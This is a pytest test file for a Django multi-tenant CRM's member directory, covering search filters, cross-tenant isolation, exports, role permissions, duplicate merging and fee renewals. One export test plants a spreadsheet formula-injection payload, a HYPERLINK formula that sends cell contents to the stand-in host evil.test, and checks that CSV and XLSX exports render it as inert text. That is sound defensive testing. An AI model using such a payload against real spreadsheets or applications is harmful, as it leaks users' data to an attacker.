from __future__ import annotations

import datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django_scopes import scope, scopes_disabled

from clusterdesk.core.roles import Role
from clusterdesk.crm.models import Interaction, Membership, Organisation
from tests.conftest import Tenant, client_for
from tests.factories import ContactFactory, follow


@pytest.fixture
def orgs(tenant_a: Tenant, tenant_b: Tenant) -> list[Organisation]:
    with scopes_disabled():
        found = [
            follow(
                tenant_a.cluster,
                name="Immunotherapie Lyon",
                city="Lyon",
                kind="startup",
                description="Anticorps pour les laboratoires",
            ),
            follow(
                tenant_a.cluster,
                name="Vetopharm",
                city="Grenoble",
                kind="large_company",
                headcount_band="41",
                postal_code="38000",
            ),
        ]
        follow(tenant_b.cluster, name="Immuno Secret", city="Lyon")  # another cluster's
        Membership.objects.create(
            cluster=tenant_a.cluster, organisation=found[0], year=2026, status="active"
        )
    return found


def test_directory_filters_searches_and_never_shows_another_clusters(
    tenant_a: Tenant, orgs: list[Organisation]
) -> None:
    client = client_for(tenant_a.people[Role.PROJECT_MANAGER])
    url = reverse("members:organisations", args=[tenant_a.cluster.slug])

    def names(**params: object) -> list[str]:
        return [o.name for o, _m in client.get(url, params).context["rows"]]

    assert names() == ["Immunotherapie Lyon", "Vetopharm"]
    assert names(q="immuno") == ["Immunotherapie Lyon"]
    assert names(q="laboratoire") == ["Immunotherapie Lyon"]  # in the description
    assert names(sme="true") == ["Immunotherapie Lyon"]
    assert names(sme="false") == ["Vetopharm"]
    assert names(kind="large_company") == ["Vetopharm"]
    assert names(departement="38") == ["Vetopharm"]
    assert names(membership_status="active", membership_year="2026") == ["Immunotherapie Lyon"]
    assert names(sort="-name") == ["Vetopharm", "Immunotherapie Lyon"]
    assert "Secret" not in client.get(url, {"q": "secret"}).content.decode()


def test_directory_has_no_n_plus_one(
    tenant_a: Tenant, orgs: list[Organisation], django_assert_max_num_queries: object
) -> None:
    client = client_for(tenant_a.director)
    url = reverse("members:organisations", args=[tenant_a.cluster.slug])
    client.get(url)
    with scopes_disabled():
        for n in range(20):
            org = follow(tenant_a.cluster, name=f"Extra {n}")
            Membership.objects.create(cluster=tenant_a.cluster, organisation=org, year=2026)
    with django_assert_max_num_queries(16):  # type: ignore[operator]
        assert client.get(url).status_code == 200


def test_export_runs_in_the_background_and_gives_an_xlsx(
    tenant_a: Tenant, orgs: list[Organisation], django_capture_on_commit_callbacks: object
) -> None:
    import io

    from openpyxl import load_workbook

    client = client_for(tenant_a.director)
    url = reverse("members:organisations", args=[tenant_a.cluster.slug])
    with django_capture_on_commit_callbacks(execute=True):  # type: ignore[operator]
        response = client.post(f"{url}?q=immuno", {"format": "xlsx"})
    download = client.get(response.url.rstrip("/") + "/download/")
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2 and rows[1][0] == "Immunotherapie Lyon"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_of_a_formula_like_name_is_text(
    fmt: str, tenant_a: Tenant, django_capture_on_commit_callbacks: object
) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    name = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
    with scopes_disabled():
        follow(tenant_a.cluster, name=name)
    client = client_for(tenant_a.director)
    url = reverse("members:organisations", args=[tenant_a.cluster.slug])
    with django_capture_on_commit_callbacks(execute=True):  # type: ignore[operator]
        response = client.post(url, {"format": fmt})
    download = client.get(response.url.rstrip("/") + "/download/")
    content = b"".join(download.streaming_content)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert rows[1][0] == "'" + name
        return
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet["A2"]
    assert cell.value == name and cell.data_type == "s"


def test_organisation_page_shows_timeline_and_edit_saves(
    tenant_a: Tenant, orgs: list[Organisation]
) -> None:
    org = orgs[0]
    with scopes_disabled():
        Interaction.objects.create(
            cluster=tenant_a.cluster, organisation=org, subject="Visite labo"
        )
        Membership.objects.update_or_create(
            cluster=tenant_a.cluster,
            organisation=org,
            year=2026,
            defaults={
                "status": "active",
                "fee_amount": Decimal("1200"),
                "fee_paid_amount": Decimal("1200"),
                "fee_paid_on": datetime.date(2026, 2, 3),
            },
        )
    client = client_for(tenant_a.director)
    page = client.get(reverse("members:organisation", args=[tenant_a.cluster.slug, org.pk]))
    body = page.content.decode()
    assert "Visite labo" in body
    # Entries say what they are, amounts in French format.
    assert "Cotisation 2026 payée : 1\xa0200,00\xa0€" in body
    assert "Adhésion 2026 : active" in body and "1\xa0200,00\xa0€" in body
    edit = reverse("members:organisation_edit", args=[tenant_a.cluster.slug, org.pk])
    bad = client.post(edit, {"name": org.name, "kind": "startup", "siren": "123", "country": "FR"})
    assert bad.status_code == 400 and "siren" in bad.context["form"].errors
    org.refresh_from_db()
    assert org.siren is None
    ok = client.post(
        edit,
        {
            "name": org.name,
            "kind": "startup",
            "siren": "732829320",
            "country": "FR",
            "city": "Lyon",
            "postal_code": "69003",
        },
    )
    assert ok.status_code == 302
    org.refresh_from_db()
    assert org.siren == "732829320"


def test_finance_manages_fees_but_cannot_edit_organisations(
    tenant_a: Tenant, orgs: list[Organisation]
) -> None:
    finance = client_for(tenant_a.people[Role.FINANCE])
    slug = tenant_a.cluster.slug
    assert finance.get(reverse("members:renewals", args=[slug, 2026])).status_code == 200
    assert (
        finance.get(reverse("members:organisation_edit", args=[slug, orgs[0].pk])).status_code
        == 403
    )
    pm = client_for(tenant_a.people[Role.PROJECT_MANAGER])
    assert pm.get(reverse("members:renewals", args=[slug, 2026])).status_code == 403
    expert = client_for(tenant_a.people[Role.EXPERT])
    assert expert.get(reverse("members:organisations", args=[slug])).status_code == 403


def test_merge_from_the_duplicates_page(tenant_a: Tenant) -> None:
    with scopes_disabled():
        a = follow(tenant_a.cluster, name="Biomérieux Lyon", city="Lyon")
        b = follow(tenant_a.cluster, name="BIOMERIEUX LYON SA", city="Lyon")
    client = client_for(tenant_a.director)
    url = reverse("members:duplicates", args=[tenant_a.cluster.slug])
    pairs = client.get(url).context["pairs"]
    assert {pairs[0].first, pairs[0].second} == {a, b}
    asked = client.post(url, {"keep": a.pk, "drop": b.pk})
    assert asked.status_code == 200 and len(Organisation.objects.instance_wide().all()) == 2
    client.post(url, {"keep": a.pk, "drop": b.pk, "confirmed": "yes"})
    assert list(Organisation.objects.instance_wide().all()) == [a]


def test_member_portal_edits_only_its_own_organisation(
    tenant_a: Tenant, orgs: list[Organisation]
) -> None:
    member = tenant_a.people[Role.MEMBER]
    with scopes_disabled():
        ContactFactory(cluster=tenant_a.cluster, organisation=orgs[0], user=member)
    client = client_for(member)
    slug = tenant_a.cluster.slug
    home = client.get(reverse("portal:home", args=[slug]))
    assert [o.pk for o in home.context["organisations"]] == [orgs[0].pk]
    mine = reverse("portal:organisation", args=[slug, orgs[0].pk])
    client.post(mine, {"usual_name": "ImmunoLyon", "city": "Lyon", "directory_consent": "on"})
    orgs[0].refresh_from_db()
    assert orgs[0].usual_name == "ImmunoLyon" and orgs[0].directory_consent
    # Another member organisation of the same cluster: not found, like any other.
    theirs = reverse("portal:organisation", args=[slug, orgs[1].pk])
    assert client.get(theirs).status_code == 404
    assert client.get(reverse("members:organisations", args=[slug])).status_code == 403


def test_public_directory_lists_consenting_active_members_only(
    tenant_a: Tenant, orgs: list[Organisation]
) -> None:
    from django.test import Client

    with scopes_disabled():
        Organisation.objects.instance_wide().filter(pk=orgs[0].pk).update(directory_consent=True)
        Membership.objects.filter(organisation=orgs[0]).update(
            year=__import__("datetime").date.today().year, status="active"
        )
        Organisation.objects.instance_wide().filter(pk=orgs[1].pk).update(
            directory_consent=True
        )  # not a member
    html = Client().get(reverse("directory", args=[tenant_a.cluster.slug])).content.decode()
    assert "Immunotherapie Lyon" in html and "Vetopharm" not in html
    assert Client().get(reverse("directory", args=["nope"])).status_code == 404


def test_renewal_page_records_a_payment_with_errors_shown(tenant_a: Tenant) -> None:
    with scopes_disabled():
        org = follow(tenant_a.cluster)
        m = Membership.objects.create(
            cluster=tenant_a.cluster, organisation=org, year=2026, status="active", fee_amount=500
        )
    client = client_for(tenant_a.people[Role.FINANCE])
    url = reverse("members:renewals", args=[tenant_a.cluster.slug, 2026])
    refused = client.post(
        url, {"action": "pay", "membership": m.pk, "amount": "500", "paid_on": "2026-02-01"}
    )
    assert refused.status_code == 400  # not called yet
    client.post(url, {"action": "call", "confirmed": "yes"})
    client.post(
        url, {"action": "pay", "membership": m.pk, "amount": "500", "paid_on": "2099-01-01"}
    )
    with scope(cluster=tenant_a.cluster):
        m.refresh_from_db()
    assert m.fee_paid_amount == 500
